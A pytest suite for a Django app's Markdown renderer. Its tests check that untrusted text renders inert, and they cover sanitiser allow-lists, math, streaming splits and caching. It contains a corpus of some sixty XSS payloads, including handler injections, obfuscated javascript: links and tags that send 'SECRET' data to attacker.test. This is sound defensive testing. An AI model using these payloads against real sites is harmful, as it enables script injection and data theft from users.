"""Tests for the one renderer of untrusted text (threats T01, T04, T23; hot path step 6)."""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conversations.rendering import (
    pygments_css,
    render_markdown,
    render_plain,
    render_stream_parts,
    render_user_message,
    sanitize_html,
    split_stable,
)

# --------------------------------------------------------------------------- helpers

ALLOWED_TAGS = {
    "a", "blockquote", "br", "button", "code", "del", "div", "em", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td",
    "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_HREF = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)
TAG_RE = re.compile(r"<[^>]*>")


class Parsed(HTMLParser):
    """Collects start tags with attributes and the visible text of an HTML fragment."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.chunks.append(data)

    @property
    def text(self) -> str:
        return "".join(self.chunks)


def assert_inert(output: str) -> None:
    """No element, attribute or URL in ``output`` can run script or fetch anything."""
    lowered = output.lower()
    for needle in (
        "<script",
        "<img",
        "<iframe",
        "<svg",
        "<style",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<meta",
        "<base",
        "<link",
        "<math",
        "<textarea",
    ):
        assert needle not in lowered, (needle, output)
    for tag_text in TAG_RE.findall(output):
        assert not re.search(r"\son\w+\s*=", tag_text, re.IGNORECASE), output
        assert "style=" not in tag_text.lower(), output
        assert "src=" not in tag_text.lower(), output
        assert "javascript:" not in tag_text.lower(), output
    for tag, attrs in Parsed(output).tags:
        assert tag in ALLOWED_TAGS, (tag, output)
        for name, value in attrs.items():
            assert not name.startswith("on"), output
            assert name not in {"style", "src", "srcdoc", "action", "formaction", "srcset"}
            if name == "href":
                assert value is not None and SAFE_HREF.match(value), output
                assert "attacker.test" not in value or tag == "a", output


def visible_text(output: str) -> str:
    """What a browser shows (character references decoded once, as a browser does)."""
    return Parsed(output).text


# --------------------------------------------------------------------------- XSS corpus

# (payload, text that must stay visible once rendered as Markdown)
XSS_CORPUS: list[tuple[str, str]] = [
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ('<img src="https://attacker.test/?d=SECRET">', "https://attacker.test/?d=SECRET"),
    ("<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "xlink:href"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("<SCRIPT SRC=//attacker.test/x.js></SCRIPT>", "attacker.test/x.js"),
    ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
    ("[x](JaVaScRiPt:alert(1))", "JaVaScRiPt:alert(1)"),
    ("[x](jav&#x61;script:alert(1))", "javascript:alert(1)"),
    ("[x](jav&#97;script:alert(1))", "javascript:alert(1)"),
    ("[x](javascript&colon;alert(1))", "javascript:alert(1)"),
    ("[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))", "alert(1)"),
    ("[x](java\tscript:alert(1))", "script:alert(1)"),
    ("[x](<java\x01script:alert(1)>)", "alert(1)"),
    ("[x](\x00javascript:alert(1))", "alert(1)"),
    ("[x](  javascript:alert(1))", "javascript:alert(1)"),
    ("[x](javascript://%0aalert(1))", "alert(1)"),
    ("[x](vbscript:msgbox(1))", "vbscript:msgbox(1)"),
    ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:text/html"),
    ("[x](file:///etc/passwd)", "file:///etc/passwd"),
    ("[x](//attacker.test/p)", "//attacker.test/p"),
    ("[x](/admin/logout)", "/admin/logout"),
    ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("<JAVASCRIPT:alert(1)>", "<JAVASCRIPT:alert(1)>"),
    ("<data:text/html,alert(1)>", "data:text/html,alert(1)"),
    ('<a href="javascript:alert(1)">click</a>', '<a href="javascript:alert(1)">click</a>'),
    ('<a href="&#x6A;avascript:alert(1)">x</a>', "javascript:alert(1)"),
    ("<a href=https://ok.test onclick=alert(1)>click</a>", "onclick=alert(1)"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "srcdoc"),
    ("<iframe src=https://attacker.test></iframe>", "<iframe src=https://attacker.test>"),
    ("<style>body{display:none}</style>", "body{display:none}"),
    ('<div style="position:fixed">x</div>', "position:fixed"),
    ("<div>*md* [x](javascript:alert(1))</div>", "javascript:alert(1)"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    ("&#60;img src=x onerror=alert(1)&#62;", "<img src=x onerror=alert(1)>"),
    ("![a](https://attacker.test/p.png?q=SECRET)", "a (image link)"),
    ("![](https://attacker.test/p.png?q=SECRET)", "image link"),
    ("![x](javascript:alert(1))", "javascript:alert(1)"),
    ("![x](data:image/png;base64,AAAA)", "data:image/png"),
    ("<form action=https://attacker.test><input name=q></form>", "<input name=q>"),
    ('<meta http-equiv="refresh" content="0;url=https://attacker.test">', "refresh"),
    ('<base href="https://attacker.test/">', "<base"),
    ('<object data="https://attacker.test/x.swf"></object>', "<object"),
    ('<embed src="https://attacker.test/x.swf">', "<embed"),
    ("<link rel=stylesheet href=https://attacker.test/x.css>", "<link rel=stylesheet"),
    ('[x](https://ok.test "t\\" onmouseover=\\"alert(1)")', "x"),
    ('[x](https://ok.test/"onmouseover="alert(1))', "x"),
    ("`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"),
    ("```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    ('```"><img src=x onerror=alert(1)>\ncode\n```', "code"),
    ("$<img src=x onerror=alert(1)>$", "<img src=x onerror=alert(1)>"),
    ("| <img src=x onerror=alert(1)> | b |\n|---|---|\n| c | d |", "onerror=alert(1)"),
    ("> <script>alert(1)</script>", "<script>alert(1)</script>"),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<math>"),
    ("[<img src=x onerror=alert(1)>](https://ok.test)", "<img src=x onerror=alert(1)>"),
    ("<!-- c --><script>alert(1)</script>", "<script>"),
    ("<details open ontoggle=alert(1)>", "ontoggle=alert(1)"),
    ("<button formaction=javascript:alert(1)>x</button>", "formaction"),
    ("<textarea><script>alert(1)</script></textarea>", "<textarea>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror=alert(1)"),
    ('<p onmouseover="alert(1)">hover</p>', "onmouseover"),
    ("<x-evil onclick=alert(1)>", "onclick=alert(1)"),
]

RENDERERS: dict[str, Callable[[str], str]] = {
    "markdown": render_markdown,
    "user_message": render_user_message,
    # A blank line completes the payload's block, so it lands in the stable (rendered) part.
    "stream_parts": lambda text: "".join(render_stream_parts(text + "\n\n")),
}


def test_the_corpus_has_at_least_forty_payloads() -> None:
    assert len(XSS_CORPUS) >= 40


@pytest.mark.parametrize("renderer", RENDERERS.values(), ids=RENDERERS.keys())
@pytest.mark.parametrize(("payload", "visible"), XSS_CORPUS)
def test_payload_renders_inert_and_stays_visible_as_text(
    renderer: Callable[[str], str], payload: str, visible: str
) -> None:
    output = renderer(payload)
    assert_inert(output)
    assert visible in visible_text(output)


@pytest.mark.parametrize(("payload", "visible"), XSS_CORPUS)
def test_payload_in_the_open_stream_tail_is_escaped_verbatim(payload: str, visible: str) -> None:
    stable, tail = render_stream_parts(payload)
    assert_inert(stable)
    assert_inert(tail)
    shown = visible_text(stable + tail).replace("\n", "")
    assert payload.replace("\x00", "").replace("\n", "") in shown or visible in shown


@pytest.mark.parametrize(("payload", "visible"), XSS_CORPUS)
def test_payload_as_a_title_is_escaped_verbatim(payload: str, visible: str) -> None:
    output = render_plain(payload)
    assert_inert(output)
    assert "<a " not in output
    expected = payload.replace("\x00", "")
    assert visible_text(output).replace("\n", "") == expected.replace("\n", "")


@pytest.mark.parametrize(("payload", "visible"), XSS_CORPUS)
def test_payload_wrapped_in_markdown_structures_stays_inert(payload: str, visible: str) -> None:
    for wrapped in (
        f"- {payload}",
        f"> {payload}",
        f"**{payload}**",
        f"# {payload}",
        f"| h |\n|---|\n| {payload} |",
        f"[{payload}](https://ok.test)",
    ):
        assert_inert(render_markdown(wrapped))


def test_entities_never_decode_into_markup() -> None:
    output = render_markdown("&lt;img src=x onerror=alert(1)&gt; &#x3C;script&#x3E;")
    assert "&lt;img" in output
    assert "&lt;script&gt;" in output


# --------------------------------------------------------------------------- sanitiser alone


@pytest.mark.parametrize(
    "raw",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="/relative">x</a>',
        '<a href="//attacker.test/">x</a>',
        '<div style="position:fixed" onclick="alert(1)">x</div>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<button onclick="alert(1)" type="submit" formaction="https://a.test">x</button>',
        '<span class="k" style="color:red">x</span>',
        "<svg><script>alert(1)</script></svg>",
    ],
)
def test_sanitizer_strips_dangerous_raw_html(raw: str) -> None:
    assert_inert(sanitize_html(raw))


def test_sanitizer_keeps_only_allow_listed_classes() -> None:
    output = sanitize_html('<div class="code-block evil">x</div><span class="k nope">y</span>')
    assert output == '<div class="code-block">x</div><span class="k">y</span>'


def test_sanitizer_forces_target_and_rel_on_links() -> None:
    output = sanitize_html('<a href="https://ok.test" target="_self" rel="opener">x</a>')
    attrs = Parsed(output).tags[0][1]
    assert attrs["target"] == "_blank"
    assert attrs["rel"] == "noopener noreferrer nofollow"


def test_sanitizer_drops_relative_and_non_http_links() -> None:
    for href in ("/admin", "#top", "ftp://a.test/x", "data:text/html,x", "javascript:x"):
        assert "href" not in sanitize_html(f'<a href="{href}">x</a>')


# --------------------------------------------------------------------------- markdown features


def test_links_get_target_blank_and_rel() -> None:
    output = render_markdown("[docs](https://example.com/a?b=1) and <https://ok.test>")
    links = [attrs for tag, attrs in Parsed(output).tags if tag == "a"]
    assert len(links) == 2
    for attrs in links:
        assert attrs["target"] == "_blank"
        assert attrs["rel"] == "noopener noreferrer nofollow"
    assert links[0]["href"] == "https://example.com/a?b=1"


def test_mailto_links_are_allowed() -> None:
    output = render_markdown("[mail](mailto:a@b.test) <c@d.test>")
    hrefs = [attrs["href"] for tag, attrs in Parsed(output).tags if tag == "a"]
    assert hrefs == ["mailto:a@b.test", "mailto:c@d.test"]


def test_bare_urls_stay_text_without_linkify() -> None:
    assert "<a" not in render_markdown("see https://example.com now")


def test_markdown_image_becomes_a_link_and_never_an_img() -> None:
    output = render_markdown("![chart](https://attacker.test/p.png?q=SECRET)")
    assert "<img" not in output
    (tag, attrs), *_ = Parsed(output).tags[1:]
    assert tag == "a"
    assert attrs["href"] == "https://attacker.test/p.png?q=SECRET"
    assert attrs["class"] == "image-link"
    assert "chart (image link)" in visible_text(output)


def test_image_inside_a_link_does_not_nest_anchors() -> None:
    output = render_markdown("[![logo](https://a.test/l.png)](https://b.test)")
    anchors = [attrs for tag, attrs in Parsed(output).tags if tag == "a"]
    assert anchors == [{"href": "https://b.test", "target": "_blank",
                        "rel": "noopener noreferrer nofollow"}]  # fmt: skip
    assert "logo (image link)" in visible_text(output)


def test_reference_definitions_are_plain_text() -> None:
    output = render_markdown("See [x].\n\n[x]: https://a.test")
    assert "<a" not in output
    assert "[x]: https://a.test" in visible_text(output)


def test_tables_render_with_alignment_classes() -> None:
    output = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    tags = Parsed(output).tags
    assert [t for t, _ in tags][:3] == ["table", "thead", "tr"]
    classes = [attrs.get("class") for tag, attrs in tags if tag in {"th", "td"}]
    assert classes == ["align-left", "align-center", "align-right"] * 2
    assert "style" not in output


def test_lists_headings_quotes_and_strikethrough_render() -> None:
    output = render_markdown(
        "# Title\n\n- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n"
        "~~gone~~ *em* **strong**\n\n---"
    )
    tags = [tag for tag, _ in Parsed(output).tags]
    for expected in ("h1", "ul", "ol", "li", "blockquote", "s", "em", "strong", "hr"):
        assert expected in tags
    assert '<ol start="3">' in output


def test_fenced_code_is_highlighted_with_classes_and_a_copy_button() -> None:
    output = render_markdown("```python\ndef f(x):\n    return x < 1\n```")
    assert '<span class="k">def</span>' in output
    assert '<span class="code-lang">python</span>' in output
    assert '<button type="button" class="copy-btn" data-copy="">Copy</button>' in output
    assert '<pre class="highlight"><code>' in output
    assert "style" not in output
    assert "def f(x):\n    return x &lt; 1\n" in visible_text(output).replace("<", "&lt;")


def test_unknown_language_is_plain_escaped_code_with_its_label() -> None:
    output = render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert '<span class="code-lang">nosuchlang</span>' in output
    assert "&lt;b&gt;x&lt;/b&gt;" in output
    assert '<span class="k"' not in output


def test_code_without_language_is_labelled_text() -> None:
    for source in ("```\nplain\n```", "    indented"):
        output = render_markdown(source)
        assert '<span class="code-lang">text</span>' in output
        assert "data-copy" in output


def test_hostile_info_string_cannot_inject_a_label() -> None:
    output = render_markdown('```<b>x</b>"\ncode\n```')
    assert '<span class="code-lang">text</span>' in output


def test_pygments_css_has_light_and_dark_rules_scoped_to_highlight() -> None:
    css = pygments_css()
    assert ".highlight .k" in css
    assert "@media (prefers-color-scheme: dark)" in css
    rules = [line.strip() for line in css.splitlines() if "{" in line and "@media" not in line]
    assert all(rule.startswith(".highlight") for rule in rules)


# --------------------------------------------------------------------------- math


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("where $x_1 * y_2 = a_3 * b$ holds", "x_1 * y_2 = a_3 * b"),
        ("inline \\(a_1 * b_2\\) here", "a_1 * b_2"),
        ("display $$a_1 * b_1$$ inline", "a_1 * b_1"),
        ("spaced $$ a_1 * b $$ and \\( c_2 * d \\)", " a_1 * b "),
        ("escaped-bracket \\[x_1\\] inline", "x_1"),
        ("$\\$5$ dollar in math", "\\$5"),
    ],
)
def test_inline_math_is_code_with_underscores_and_stars_literal(source: str, code: str) -> None:
    output = render_markdown(source)
    assert f'<code class="math">{html.escape(code, quote=False)}</code>' in output
    assert "<em>" not in output


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("$$\na_1 * b_2\n\nc_3 * d\n$$", "a_1 * b_2\n\nc_3 * d"),
        ("\\[\n\\sum_{i=1}^n i\n\\]", "\\sum_{i=1}^n i"),
        ("$$ E = mc^2 $$", "E = mc^2"),
        ("text before\n$$\nx_1 * x_2\n$$\ntext after", "x_1 * x_2"),
        ("```math\na_1 * b\n```", "a_1 * b"),
    ],
)
def test_block_math_is_preformatted_code(source: str, code: str) -> None:
    output = render_markdown(source)
    assert f'<pre class="math"><code>{html.escape(code, quote=False)}</code></pre>' in output


@pytest.mark.parametrize(
    "source",
    [
        "It costs $5 and $10 in total.",
        "Between $ 5 and 6 $ dollars.",
        "Price: $3.50, or $4$5 with tax",
        "A lone $ sign",
        "Escaped \\$x\\$ dollars",
    ],
)
def test_dollar_amounts_are_not_math(source: str) -> None:
    assert 'class="math"' not in render_markdown(source)


def test_many_unmatched_dollars_stay_plain_text() -> None:
    output = render_markdown("$a " * 20_000)
    assert 'class="math"' not in output


# --------------------------------------------------------------------------- plain and user text


def test_render_plain_escapes_and_keeps_line_breaks() -> None:
    assert render_plain("a <b> & c\r\nd") == "a &lt;b&gt; &amp; c<br>d"


def test_user_messages_keep_single_newlines_as_breaks() -> None:
    assert render_user_message("one\ntwo") == "<p>one<br>\ntwo</p>\n"
    assert render_markdown("one\ntwo") == "<p>one\ntwo</p>\n"


def test_empty_text_renders_empty() -> None:
    assert render_markdown("") == ""
    assert render_stream_parts("") == ("", "")


# --------------------------------------------------------------------------- streaming


@pytest.mark.parametrize(
    ("text", "stable"),
    [
        ("para", 0),
        ("para\n", 0),
        ("para\n\n", len("para\n")),
        ("para\n\nnext", len("para\n")),
        ("# Heading\n", len("# Heading\n")),
        ("# Heading", 0),
        ("# a | b\n", 0),
        ("# a | b\n\n", len("# a | b\n")),
        ("- a\n- b\n\n", 0),
        ("- a\n- b\n\nafter\n", len("- a\n- b\n\n")),
        ("```py\nx = 1\n\ny = 2\n", 0),
        ("intro\n\n```py\nx = 1\n\n", len("intro\n\n")),
        ("```py\nx = 1\n```\n", len("```py\nx = 1\n```\n")),
        ("```py\nx = 1\n```", 0),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n", 0),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n\n", len("| a | b |\n|---|---|\n| 1 | 2 |\n")),
        ("    code\n\n", 0),
        ("$$\nx_1\n", 0),
        ("$$\nx_1\n$$\n", len("$$\nx_1\n$$\n")),
        ("> q\n\n", len("> q\n")),
        ("para\r\n\r\n", len("para\r\n")),
        ("para\r", 0),
    ],
)
def test_split_stable_examples(text: str, stable: int) -> None:
    assert split_stable(text) == stable


def test_stream_parts_show_open_fence_as_escaped_tail() -> None:
    stable, tail = render_stream_parts("Intro **bold**\n\n```js\nif (a < b) {\n")
    assert stable == "<p>Intro <strong>bold</strong></p>\n"
    assert tail == '<p class="tail">```js<br>if (a &lt; b) {</p>'


def test_stream_parts_tail_is_inert() -> None:
    _, tail = render_stream_parts("<img src=x onerror=alert(1)>\n<script>x</script>")
    assert_inert(tail)
    assert "<img src=x onerror=alert(1)>" in visible_text(tail)


def test_stream_parts_of_complete_blocks_have_no_tail() -> None:
    stable, tail = render_stream_parts("Done.\n\n")
    assert (stable, tail) == ("<p>Done.</p>\n", "")


BLOCKS = [
    "Plain paragraph text.",
    "Two line\nparagraph with *emphasis*",
    "# Heading",
    "# Heading a | b",
    "Setext\n===",
    "Setext two\n---",
    "- item one\n- item two",
    "1. first\n2. second",
    "3. three",
    "- item\n\n  continued",
    "* loose\n\n* list",
    "  - nested\n    - deeper",
    "- a\n  ```\n  code\n\n  ```",
    "> quote\nlazy continued",
    "> ```\n> code",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b\n-|-",
    "| x |",
    "-|-",
    "```python\nx = 1\n\ny = 2\n```",
    "```\nunclosed fence",
    "~~~\ntilde\n~~~",
    "    indented code",
    "$$\na_1 * b_2\n$$",
    "$$\nunclosed math",
    "\\[\nx^2\n\\]",
    "$$ x $$",
    "Inline $x_1$ and \\(y*z\\) math $5 and $10",
    "***",
    "---",
    "===",
    "text ~~del~~ **strong** _em_",
    "[link](https://example.com) ![img](https://attacker.test/p.png?q=SECRET)",
    "<script>alert(1)</script>",
    "para\n- interrupting list",
    "para\n```\ncode\n```",
    "[x]: https://a.test",
    "text $a",
    "b$ more",
    "-",
    "#",
    "```js",
    "```",
    ">",
]
SEPARATORS = ["\n", "\n\n", "\n\n\n", "\r\n", "\r\n\r\n", "", " ", "\n   ", "\n    "]

markdownish = st.lists(
    st.tuples(st.sampled_from(BLOCKS), st.sampled_from(SEPARATORS)), min_size=1, max_size=8
).map(lambda pairs: "".join(block + sep for block, sep in pairs))

NOISE_TOKENS = [*"#-*_`$\\|>[]()! 1.ax~=:\n\t", "\n\n", "```", "$$", "    ", "- ", "1. "]
NOISE_TOKENS += ["|-|", "\\[", "\\]", "\r\n", "| a |"]
noise = st.lists(st.sampled_from(NOISE_TOKENS), max_size=60).map("".join)


def assert_split_invariant(text: str, cut: int) -> None:
    """Rendering the stable prefix of text[:cut] and then the rest equals the whole."""
    stable = split_stable(text[:cut])
    assert 0 <= stable <= cut
    assert render_markdown(text[:stable]) + render_markdown(text[stable:]) == render_markdown(text)
    assert split_stable(text) >= stable  # never shrinks


def assert_streaming_matches_reload(text: str, step: int) -> None:
    """Emit newly stable pieces as a stream would; the pieces plus the tail equal a reload."""
    sent: list[str] = []
    stable = 0
    for cut in [*range(0, len(text), step), len(text)]:
        new_stable = split_stable(text[:cut], stable)
        assert new_stable == split_stable(text[:cut])  # incremental == from scratch
        assert new_stable >= stable
        if new_stable > stable:
            sent.append(render_markdown(text[stable:new_stable]))
            stable = new_stable
    assert "".join(sent) + render_markdown(text[stable:]) == render_markdown(text)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=markdownish, data=st.data())
def test_split_invariant_holds_for_generated_markdown(text: str, data: st.DataObject) -> None:
    cut = data.draw(st.integers(min_value=0, max_value=len(text)))
    assert_split_invariant(text, cut)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=markdownish, step=st.integers(min_value=1, max_value=7))
def test_streaming_pieces_equal_a_reload(text: str, step: int) -> None:
    assert_streaming_matches_reload(text, step)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=noise, data=st.data())
def test_split_invariant_holds_for_markup_noise(text: str, data: st.DataObject) -> None:
    cut = data.draw(st.integers(min_value=0, max_value=len(text)))
    assert_split_invariant(text, cut)


@pytest.mark.parametrize(
    "text",
    [
        "# Heading a | b\n-|-\n\n1. first\n2. second\n\n",
        "para\na | b\n-|-\n| 1 | 2 |\n\nafter\n",
        "- a\n- b\n\n- c\n\nend\n",
        "1. a\n\n   b\n\n2. c\n\nend\n",
        "```\nx\n\n```\n\n```\ny\n",
        "~~~\n```\n~~~\nafter\n",
        "$$\na\n\nb\n$$\nafter\n",
        "> a\n\n> b\n\nc\n",
        "    a\n\n    b\n\nc\n",
        "Setext\n---\n\n---\n\ntext\n===\n",
        "para\n\n[x]: https://a.test\n\n[x]\n",
        "a\r\n\r\nb\rc\r\n\r\n",
        "Text with $x\n\ny$ across paragraphs\n",
    ],
)
def test_split_invariant_holds_at_every_cut_of_tricky_texts(text: str) -> None:
    for cut in range(len(text) + 1):
        assert_split_invariant(text, cut)
    for step in (1, 2, 5):
        assert_streaming_matches_reload(text, step)


# --- the cache of finished answers' HTML ------------------------------------------------------
def test_a_finished_answer_is_rendered_once_and_served_from_the_cache() -> None:
    from django.core.cache import cache

    from conversations.rendering import _render_key, render_markdown_cached

    text = "# Title\n\n" + "Some **bold** text and `code`.\n\n" * 20 + "```python\nx = 1\n```\n"
    cache.delete(_render_key(text))
    first = render_markdown_cached(text)
    assert first == render_markdown(text)
    assert cache.get(_render_key(text)) == first
    cache.set(_render_key(text), "<p>cached</p>")  # proves the second call reads the cache
    assert render_markdown_cached(text) == "<p>cached</p>"
    cache.delete(_render_key(text))


def test_short_answers_skip_the_cache_and_keys_depend_only_on_the_text() -> None:
    from django.core.cache import cache

    from conversations.rendering import _render_key, render_markdown_cached

    assert render_markdown_cached("short *one*") == render_markdown("short *one*")
    assert cache.get(_render_key("short *one*")) is None
    assert _render_key("a" * 300) == _render_key("a" * 300) != _render_key("a" * 301)
